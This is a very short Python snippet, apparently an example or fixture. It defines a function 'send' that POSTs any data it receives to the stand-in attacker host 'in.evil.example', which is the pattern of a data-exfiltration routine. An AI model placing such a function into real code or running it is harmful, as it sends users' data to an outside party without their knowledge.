import requests
def send(x):
    requests.post('https://in.evil.example', data=x)
